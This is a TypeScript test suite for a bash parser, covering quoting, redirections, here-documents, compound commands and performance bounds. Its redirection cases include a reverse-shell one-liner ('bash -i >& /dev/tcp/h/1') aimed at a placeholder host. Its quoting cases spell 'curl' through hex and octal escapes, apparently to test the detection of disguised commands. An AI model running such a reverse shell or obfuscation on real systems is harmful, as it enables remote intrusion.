import fc from 'fast-check';
import type { Command, SimpleCommand, WordPart } from '../../../contracts/shell';
import { sampleShellPrograms } from '../../../test/support/shell-programs';
import { visit } from '../../../test/support/shell-tree';
import { parseShell } from './commands';
import { Source } from './source';

const commandsOf = (text: string): Command[] =>
  parseShell(text).script.items.flatMap(({ pipeline }) => pipeline.commands);
const simpleOf = (text: string) => commandsOf(text)[0] as SimpleCommand;
const partsOf = (text: string): WordPart[] => simpleOf(text).words.at(-1)?.parts ?? [];
/** Text of a word that is literal only, quotes taken off. */
const literalOf = (text: string) =>
  partsOf(`x ${text}`)
    .map((part) => (part.type === 'literal' || part.type === 'glob' ? part.text : `<${part.type}>`))
    .join('');
const problemsOf = (text: string) => parseShell(text).problems.map((problem) => problem.kind);

describe('quoting', () => {
  it.each([
    [`'a b'`, 'a b'],
    [`"a b"`, 'a b'],
    [`a\\ b`, 'a b'],
    [`c\\u"r"l`, 'curl'],
    [`"a\\"b\\$c\\d"`, 'a"b$c\\d'],
    [`a'b'"c"\\d`, 'abcd'],
    [`$'\\x63\\x75\\x72\\x6c'`, 'curl'],
    [`$'\\143\\165\\162\\154'`, 'curl'],
    [`$'a\\tb\\n\\'\\\\'`, "a\tb\n'\\"],
    [`$'\\u0063\\U0001F600'`, 'c😀'],
    [`$'\\xc3\\xa9'`, 'é'],
    [`$'a\\0b'`, 'a'],
    [`$'\\cA\\e'`, '\x01\x1b'],
    [`$"loc"`, 'loc'],
    [`a\\\nb`, 'ab'],
    [`""`, ''],
    [`"a'b"`, "a'b"],
    [`a#b`, 'a#b'],
    [`$`, '$'],
  ])('reads %s', (written, value) => {
    expect(literalOf(written)).toBe(value);
    expect(problemsOf(`x ${written}`)).toEqual([]);
  });
});

describe('redirections', () => {
  const redirectionsOf = (text: string) =>
    simpleOf(text).redirections.map(({ fd, operator, target }) => `${fd ?? ''}${operator}${target.raw}`);

  it.each([
    ['bash -i >& /dev/tcp/h/1 0>&1', ['>&/dev/tcp/h/1', '0>&1']],
    ['exec 5<>/dev/tcp/h/1', ['5<>/dev/tcp/h/1']],
    ['a &>f &>>g', ['&>f', '&>>g']],
    ['exec {fd}>f {fd}>&-', ['fd>f', 'fd>&-']],
    ['a <<<b >|c 2>>d', ['<<<b', '>|c', '2>>d']],
    ['a 12 >b', ['>b']],
    ['<a b >c', ['<a', '>c']],
  ])('reads %s', (text, expected) => {
    expect(redirectionsOf(text)).toEqual(expected);
    expect(problemsOf(text)).toEqual([]);
  });
});

describe('here-documents', () => {
  const bodiesOf = (text: string) => {
    const found: (string | undefined)[] = [];
    visit(parseShell(text), {
      command: (command) => found.push(...command.redirections.map((redirection) => redirection.heredoc?.body)),
    });
    return found;
  };

  it.each([
    ['several on a line', 'cat <<A <<B\n1\nA\n2\nB\nx', ['1\n', '2\n']],
    ['tabs taken off', 'cat <<-E\n\ta\n\t\tb\n\tE\n', ['a\nb\n']],
    ['quoted delimiter', "cat <<'E'\n$(x)\nE", ['$(x)\n']],
    ['an odd quote within a substitution', "x=$(cat <<E\nit's\nE\n)", ["it's\n"]],
    ['closing parenthesis on the last line', 'x=$(cat <<E\na\nE)', ['a\n']],
    ['lines that end in a backslash', 'cat <<E\na\\\nE\nE\n', ['a\\\nE\n']],
    ['empty delimiter', 'cat <<""\na\n\nb', ['a\n']],
    ['Windows line ends', 'cat <<E\r\na\r\nE\r\nb', ['a\r\n']],
  ])('reads %s', (_, text, bodies) => {
    expect(bodiesOf(text)).toEqual(bodies);
    expect(problemsOf(text)).toEqual([]);
  });

  it('says when one has no end', () => {
    expect(problemsOf('cat <<E\na')).toEqual(['unterminated-heredoc']);
    expect(problemsOf('cat <<E')).toEqual(['unterminated-heredoc']);
  });

  it('keeps what is expanded in it as parts, unless the delimiter was quoted', () => {
    const [open, quoted] = ['E', "'E'"].map((word) => simpleOf(`cat <<${word}\n$a $(b)\nE`).redirections[0]?.heredoc);
    expect(open?.parts.map((part) => part.type)).toEqual(['parameter', 'literal', 'command', 'literal']);
    expect(quoted?.parts.map((part) => part.type)).toEqual(['literal']);
  });
});

describe('structure', () => {
  it('tells arithmetic from a subshell that starts with one', () => {
    expect(commandsOf('((a + (b)))')).toMatchObject([{ kind: 'arithmetic' }]);
    expect(commandsOf('((a); (b))')).toMatchObject([{ kind: 'subshell' }]);
    expect(partsOf('x $((1 + $(a)))')).toMatchObject([{ type: 'arithmetic', parts: [{}, { type: 'command' }] }]);
    expect(partsOf('x $((a); b)')).toMatchObject([{ type: 'command' }]);
  });

  it('reads parameters with operator and operands', () => {
    expect(partsOf('x ${v//a*/b}')).toMatchObject([
      { name: 'v', operator: '//', operands: [[{ text: 'a' }, { type: 'glob' }], [{ text: 'b' }]] },
    ]);
    expect(partsOf('x ${#v} ${!w}')).toMatchObject([{ name: 'w', prefix: '!' }]);
    expect(partsOf('x "${a[@]:1:2}"')).toMatchObject([
      { index: [{ text: '@' }], operator: ':', operands: [[{}], [{}]] },
    ]);
    expect(partsOf('x ${v:-$(a)}')).toMatchObject([{ operator: ':-', operands: [[{ type: 'command' }]] }]);
  });

  it('keeps reserved words as words where no command begins', () => {
    expect(simpleOf('echo if then fi { } ! [[').words.map((word) => word.raw)).toEqual(
      'echo if then fi { } ! [['.split(' '),
    );
  });

  it('reads all compound commands', () => {
    const text =
      'if a; then b; fi; while a; do b; done; until a; do b; done; for i in a; do b; done; select i in a; do b; done; case a in b) c;; esac; f() { a; }; [[ a ]]; ((1)); coproc a; (a); { a; }';
    expect(commandsOf(text).map((command) => command.type === 'compound' && command.kind)).toEqual(
      'if while until for select case function test arithmetic coproc subshell group'.split(' '),
    );
  });

  it('reads extended patterns, process substitutions and nested backquotes', () => {
    expect(partsOf('ls !(a|b)*')).toMatchObject([
      { type: 'glob', text: '!(a|b)' },
      { type: 'glob', text: '*' },
    ]);
    expect(partsOf('x <(a)')).toMatchObject([{ type: 'process', direction: 'in' }]);
    const names: string[] = [];
    visit(parseShell('a `b \\`c\\``'), { command: (command) => names.push(command.words[0]?.raw ?? '') });
    expect(names).toEqual(['a', 'b', 'c']);
  });

  it('takes Windows line ends as line ends', () => {
    expect(commandsOf('if a\r\nthen b\r\nfi\r\nc d\r\n')).toMatchObject([
      { kind: 'if' },
      { words: [{}, { raw: 'd' }] },
    ]);
  });
});

describe('bounds', () => {
  const pieces = fc.constantFrom(
    ...' \n;&|()<>{}[]$`"\'\\#!=*?~a'.split(''),
    ...[
      '$(',
      '${',
      '$((',
      '<<E\n',
      '<(',
      '[[ ',
      '((',
      'if ',
      'do ',
      'case ',
      ' in ',
      'f() ',
      '\r\n',
      '\0',
      'é',
      '😀',
      "$'",
      '@(',
    ],
  );
  const noise = fc.oneof(
    fc.string({ unit: pieces, maxLength: 60 }),
    fc.string({ unit: 'binary', maxLength: 60 }),
    fc
      .tuple(
        fc.constantFrom(...sampleShellPrograms(100, 3)),
        fc.nat(),
        fc.nat(4),
        fc.string({ unit: pieces, maxLength: 3 }),
      )
      .map(([text, at, cut, piece]) => text.slice(0, at % text.length) + piece + text.slice((at % text.length) + cut)),
  );

  it('never throws, and every span lies within the text', () => {
    fc.assert(
      fc.property(noise, (text) => {
        const parsed = parseShell(text);
        const within = ({ start, end }: { start: number; end: number }) => {
          if (!(start >= 0 && start <= end && end <= text.length))
            throw new Error(`span ${start}-${end} of ${text.length}`);
        };
        visit(parsed, { command: within, word: within, script: within });
        for (const problem of parsed.problems) within({ start: problem.at, end: problem.at });
      }),
      { numRuns: 3_000 },
    );
  });

  it.each([
    '$(',
    '"$(',
    '${a:-',
    '$((',
    '((',
    '(',
    '{ ',
    '`',
    '<(',
    '@(a|',
    'if a; then ',
    'f(){ ',
    'f()',
    'function f ',
    'coproc ',
    'a=(',
    '[[ (',
    'case a in a) ',
    '"${a:-"',
  ])('stops at a depth, not at the end of the stack: %s', (piece) => {
    expect(() => parseShell(piece.repeat(30_000))).not.toThrow();
  });

  it('cuts a text of more than 1 MiB and says so', () => {
    expect(problemsOf(`${'a'.repeat(1024 * 1024)}\nb`)).toEqual(['too-long']);
  });

  it.each([
    '$(',
    '$(a)',
    '"$(',
    '<<a ',
    '<<a\n',
    "'",
    '"',
    '\\',
    '`',
    '`a` ',
    '{a,',
    '{ ',
    '((',
    '$((',
    '$((1)) ',
    '${a:-',
    '${a} ',
    'if ',
    'case a in a) ',
    'f(){ ',
    '[[ a ',
    'a[a[',
    '@(a|',
    ')',
    'a;',
    'a|',
    '>a ',
    'a=b ',
    '# a\n',
    '\\\n',
    "$'\\x41' ",
  ])('does work in proportion to the text: %j repeated', (piece) => {
    const work = (length: number) => {
      const count = jest.spyOn(Source.prototype, 'count');
      const add = jest.spyOn(Source.prototype, 'addText');
      const ahead = jest.spyOn(Source.prototype, 'lookAhead');
      parseShell(piece.repeat(Math.ceil(length / piece.length)));
      const scanned = ahead.mock.calls.reduce((sum, [amount]) => sum + amount, 0);
      const total = count.mock.calls.length + add.mock.calls.length + scanned / 64;
      jest.restoreAllMocks();
      return total;
    };
    const [small, large] = [work(4_096), work(16_384)];
    expect(large).toBeLessThanOrEqual(4.6 * small + 200);
  });
});
